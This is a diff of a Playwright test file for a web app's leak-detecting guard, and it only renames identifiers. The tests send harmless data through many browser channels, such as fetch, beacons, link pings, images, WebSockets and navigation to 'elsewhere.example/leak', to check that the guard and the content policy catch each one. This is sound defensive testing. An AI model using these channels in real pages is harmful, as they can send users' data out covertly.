@@ -1,5 +1,5 @@
 import type { Page } from '@playwright/test';
-import { breakProduct } from '../support/brokenPage';
+import { changeProduct } from '../support/changedProduct';
 import {
   accounts,
   aDraft,
@@ -12,7 +12,7 @@ import {
   PAGES,
   PATHS,
   schedulePost,
-} from '../support/desk';
+} from '../support/productPage';
 import { expect, test } from '../support/fixtures';
 import { leftBehind } from '../support/leftBehind';
 import { NIGHTLY } from '../support/nightly';
@@ -127,10 +127,10 @@ test('no page contains a foreign address', NIGHTLY, async ({ page }) => {
   }
 });
 
-interface Act {
+interface Attempt {
   readonly name: string;
   /** Sent to the page as text. */
-  readonly act: () => unknown;
+  readonly run: () => unknown;
   /** All expected findings of the guard. */
   readonly seen: readonly (string | RegExp)[];
   /** True if it navigates away. */
@@ -138,7 +138,7 @@ interface Act {
 }
 
 /** Performs the action in the page, and waits for its effects in the browser. */
-async function commit(page: Page, { act, seen, leaves = false }: Act): Promise<void> {
+async function perform(page: Page, { run, seen, leaves = false }: Attempt): Promise<void> {
   const kinds = (['console', 'request'] as const).filter((kind) =>
     seen.some((finding) => String(finding).includes(`^${kind}`)),
   );
@@ -148,7 +148,7 @@ async function commit(page: Page, { act, seen, leaves = false }: Act): Promise<v
         ? page.waitForEvent('console')
         : page.context().waitForEvent('request', (request) => request.url().endsWith('leak')),
     ),
-    page.evaluate(act),
+    page.evaluate(run),
     leaves && page.waitForURL(/leak$/),
   ]);
 }
@@ -157,11 +157,11 @@ const GET = /^request: GET \S+leak$/;
 const POST = /^request: POST \S+leak$/;
 
 /** Ways to send data that only the guard can detect. */
-const CALLS: readonly Act[] = [
-  { name: 'fetch', act: () => fetch('/leak'), seen: ['use of fetch', GET] },
+const CALLS: readonly Attempt[] = [
+  { name: 'fetch', run: () => fetch('/leak'), seen: ['use of fetch', GET] },
   {
     name: 'XMLHttpRequest',
-    act: () => {
+    run: () => {
       const request = new XMLHttpRequest();
       request.open('GET', '/leak');
       request.send();
@@ -170,7 +170,7 @@ const CALLS: readonly Act[] = [
   },
   {
     name: 'EventSource',
-    act: () => {
+    run: () => {
       const source = new EventSource('/leak');
       source.onerror = () => {
         source.close();
@@ -180,12 +180,12 @@ const CALLS: readonly Act[] = [
   },
   {
     name: 'a beacon',
-    act: () => navigator.sendBeacon('/leak', 'words'),
+    run: () => navigator.sendBeacon('/leak', 'words'),
     seen: ['use of Navigator.sendBeacon', POST],
   },
   {
     name: 'the ping of a link',
-    act: () => {
+    run: () => {
       const link = document.createElement('a');
       link.href = '#here';
       link.ping = '/leak';
@@ -196,7 +196,7 @@ const CALLS: readonly Act[] = [
   },
   {
     name: 'a file that was not built',
-    act: () => {
+    run: () => {
       const script = document.createElement('script');
       script.src = '/leak';
       document.body.append(script);
@@ -205,21 +205,21 @@ const CALLS: readonly Act[] = [
   },
   {
     name: 'words behind the address of a built file',
-    act: () => {
+    run: () => {
       new Image().src = '/favicon.svg?leak';
     },
     seen: [GET],
   },
   {
     name: 'a picture of elsewhere',
-    act: () => {
+    run: () => {
       new Image().src = 'http://elsewhere.example/leak';
     },
     seen: [GET],
   },
   {
     name: 'a fetch ahead of time',
-    act: () => {
+    run: () => {
       const link = document.createElement('link');
       link.rel = 'prefetch';
       link.href = '/leak';
@@ -229,7 +229,7 @@ const CALLS: readonly Act[] = [
   },
   {
     name: 'a form',
-    act: () => {
+    run: () => {
       const form = document.createElement('form');
       form.method = 'post';
       form.action = '/leak';
@@ -241,7 +241,7 @@ const CALLS: readonly Act[] = [
   },
   {
     name: 'leaving for elsewhere',
-    act: () => {
+    run: () => {
       location.href = 'http://elsewhere.example/leak';
     },
     seen: [GET],
@@ -249,24 +249,24 @@ const CALLS: readonly Act[] = [
   },
   {
     name: 'a window on elsewhere',
-    act: () => {
+    run: () => {
       window.open('http://elsewhere.example/leak');
     },
     seen: [GET],
   },
 ];
 
-test.describe('the guard detects without help of the policy:', NIGHTLY, () => {
+test.describe('the guard detects without the policy:', NIGHTLY, () => {
   for (const call of CALLS) {
     test(call.name, async ({ page, context, baseURL, expectFinding }) => {
-      await breakProduct(context, baseURL ?? '', { policy: () => '' });
+      await changeProduct(context, baseURL ?? '', { policy: () => '' });
       await context.route(/leak$/, (route) => {
         const isStream = route.request().resourceType() === 'eventsource';
         return route.fulfill({ contentType: isStream ? 'text/event-stream' : 'text/javascript' });
       });
       await gotoReady(page, '/');
       for (const finding of call.seen) expectFinding(finding);
-      await commit(page, call);
+      await perform(page, call);
     });
   }
 });
@@ -275,17 +275,17 @@ const REFUSED = /^console error: .*Content Security Policy/;
 const UNTRUSTED = 'policy violation: require-trusted-types-for trusted-types-sink';
 
 /** Actions that the policy blocks too; an attempt is still a finding. */
-const REFUSED_ACTS: readonly Act[] = [
+const REFUSED_ATTEMPTS: readonly Attempt[] = [
   {
     name: 'WebSocket',
-    act: () => {
+    run: () => {
       new WebSocket('ws://elsewhere.example/');
     },
     seen: ['use of WebSocket', 'policy violation: connect-src ws://elsewhere.example/', REFUSED],
   },
   {
     name: 'WebTransport',
-    act: () => {
+    run: () => {
       new WebTransport('https://elsewhere.example/');
     },
     seen: [
@@ -296,7 +296,7 @@ const REFUSED_ACTS: readonly Act[] = [
   },
   ...['Worker', 'SharedWorker'].map((name) => ({
     name,
-    act:
+    run:
       name === 'Worker'
         ? () => {
             try {
@@ -316,26 +316,26 @@ const REFUSED_ACTS: readonly Act[] = [
   })),
   {
     name: 'a service worker',
-    act: () => navigator.serviceWorker.register('/robots.txt').catch(() => null),
+    run: () => navigator.serviceWorker.register('/robots.txt').catch(() => null),
     seen: ['use of ServiceWorkerContainer.register', UNTRUSTED, /^console error: .*TrustedScriptU/],
   },
   {
     name: 'RTCPeerConnection',
-    act: () => {
+    run: () => {
       new RTCPeerConnection();
     },
     seen: ['use of RTCPeerConnection'],
   },
   {
     name: 'BroadcastChannel',
-    act: () => {
+    run: () => {
       new BroadcastChannel('words').postMessage('words');
     },
     seen: ['use of BroadcastChannel'],
   },
   {
     name: 'markup made of text',
-    act: () => {
+    run: () => {
       try {
         document.body.innerHTML = '<b>bold</b>';
       } catch {
@@ -346,7 +346,7 @@ const REFUSED_ACTS: readonly Act[] = [
   },
   {
     name: 'text made to run',
-    act: () => {
+    run: () => {
       setTimeout(() => {
         try {
           (0, eval)('1 + 1');
@@ -359,28 +359,28 @@ const REFUSED_ACTS: readonly Act[] = [
   },
   {
     name: 'a style by attribute',
-    act: () => {
+    run: () => {
       document.body.setAttribute('style', 'color: red');
     },
     seen: ['policy violation: style-src-attr inline', REFUSED],
   },
   {
     name: 'console.log',
-    act: () => {
+    run: () => {
       console.log('words');
     },
     seen: [/^console log: words$/],
   },
   {
     name: 'console.error',
-    act: () => {
+    run: () => {
       console.error('words');
     },
     seen: [/^console error: words$/],
   },
   {
     name: 'an uncaught error',
-    act: () => {
+    run: () => {
       setTimeout(() => {
         throw new Error('words');
       });
@@ -389,40 +389,40 @@ const REFUSED_ACTS: readonly Act[] = [
   },
   {
     name: 'an unhandled rejection',
-    act: () => {
+    run: () => {
       void Promise.reject(new Error('words'));
     },
     seen: ['uncaught: words'],
   },
   {
     name: 'an alert',
-    act: () => {
+    run: () => {
       alert('words');
     },
     seen: ['alert: words'],
   },
   {
     name: 'a question',
-    act: () => confirm('words'),
+    run: () => confirm('words'),
     seen: ['confirm: words'],
   },
 ];
 
 test.describe('the guard detects', NIGHTLY, () => {
-  for (const tried of REFUSED_ACTS) {
-    test(tried.name, async ({ page, expectFinding }) => {
+  for (const attempt of REFUSED_ATTEMPTS) {
+    test(attempt.name, async ({ page, expectFinding }) => {
       await gotoReady(page, '/');
-      for (const finding of tried.seen) expectFinding(finding);
-      await commit(page, tried);
+      for (const finding of attempt.seen) expectFinding(finding);
+      await perform(page, attempt);
     });
   }
 });
 
 /** Ways to store data in the browser, with the expected stored data. */
-const WRITES: readonly (Act & { readonly left: readonly (string | RegExp)[] })[] = [
+const WRITES: readonly (Attempt & { readonly left: readonly (string | RegExp)[] })[] = [
   {
     name: 'a cookie',
-    act: () => {
+    run: () => {
       document.cookie = 'name=words';
     },
     seen: ['cookie set'],
@@ -430,7 +430,7 @@ const WRITES: readonly (Act & { readonly left: readonly (string | RegExp)[] })[]
   },
   {
     name: 'a cookie of the newer kind',
-    act: () => {
+    run: () => {
       const { cookieStore } = window as unknown as {
         cookieStore: { set: (name: string, value: string) => Promise<void> };
       };
@@ -441,7 +441,7 @@ const WRITES: readonly (Act & { readonly left: readonly (string | RegExp)[] })[]
   },
   {
     name: 'localStorage by its method',
-    act: () => {
+    run: () => {
       localStorage.setItem('name', 'words');
     },
     seen: ['localStorage: setItem'],
@@ -449,7 +449,7 @@ const WRITES: readonly (Act & { readonly left: readonly (string | RegExp)[] })[]
   },
   {
     name: 'localStorage by a property',
-    act: () => {
+    run: () => {
       localStorage.name = 'words';
     },
     seen: ['localStorage: name set'],
@@ -457,7 +457,7 @@ const WRITES: readonly (Act & { readonly left: readonly (string | RegExp)[] })[]
   },
   {
     name: 'localStorage by what takes away',
-    act: () => {
+    run: () => {
       localStorage.removeItem('name');
       localStorage.clear();
     },
@@ -466,7 +466,7 @@ const WRITES: readonly (Act & { readonly left: readonly (string | RegExp)[] })[]
   },
   {
     name: 'sessionStorage by its method',
-    act: () => {
+    run: () => {
       sessionStorage.setItem('name', 'words');
     },
     seen: ['sessionStorage: setItem'],
@@ -474,7 +474,7 @@ const WRITES: readonly (Act & { readonly left: readonly (string | RegExp)[] })[]
   },
   {
     name: 'sessionStorage by a property',
-    act: () => {
+    run: () => {
       sessionStorage.name = 'words';
     },
     seen: ['sessionStorage: name set'],
@@ -482,7 +482,7 @@ const WRITES: readonly (Act & { readonly left: readonly (string | RegExp)[] })[]
   },
   {
     name: 'a database',
-    act: () =>
+    run: () =>
       new Promise((resolve) => {
         indexedDB.open('name').onsuccess = resolve;
       }),
@@ -491,14 +491,14 @@ const WRITES: readonly (Act & { readonly left: readonly (string | RegExp)[] })[]
   },
   {
     name: 'a cache',
-    act: () => caches.open('name').then(() => null),
+    run: () => caches.open('name').then(() => null),
     seen: ['use of CacheStorage.open'],
     left: ['cache: name'],
   },
   // These methods are not intercepted; the stored data is found.
   {
     name: 'localStorage by a definition',
-    act: () => {
+    run: () => {
       Object.defineProperty(localStorage, 'name', { value: 'words', configurable: true });
     },
     seen: [],
@@ -506,7 +506,7 @@ const WRITES: readonly (Act & { readonly left: readonly (string | RegExp)[] })[]
   },
   {
     name: 'a file of its own',
-    act: async () => {
+    run: async () => {
       const root = await navigator.storage.getDirectory();
       await root.getFileHandle('name', { create: true });
     },
@@ -515,7 +515,7 @@ const WRITES: readonly (Act & { readonly left: readonly (string | RegExp)[] })[]
   },
   {
     name: 'a bucket',
-    act: async () => {
+    run: async () => {
       const { storageBuckets } = navigator as unknown as {
         storageBuckets: { open: (name: string) => Promise<unknown> };
       };
@@ -526,7 +526,7 @@ const WRITES: readonly (Act & { readonly left: readonly (string | RegExp)[] })[]
   },
   {
     name: 'the name of its window',
-    act: () => {
+    run: () => {
       window.name = 'words';
     },
     seen: [],
@@ -540,7 +540,7 @@ test.describe('a write is detected and its data is found:', NIGHTLY, () => {
       await gotoReady(page, '/');
       expect(await leftBehind(page)).toEqual([]);
       for (const finding of write.seen) expectFinding(finding);
-      await commit(page, write);
+      await perform(page, write);
       const left = await leftBehind(page);
       for (const trace of write.left) {
         expect(left).toContainEqual(
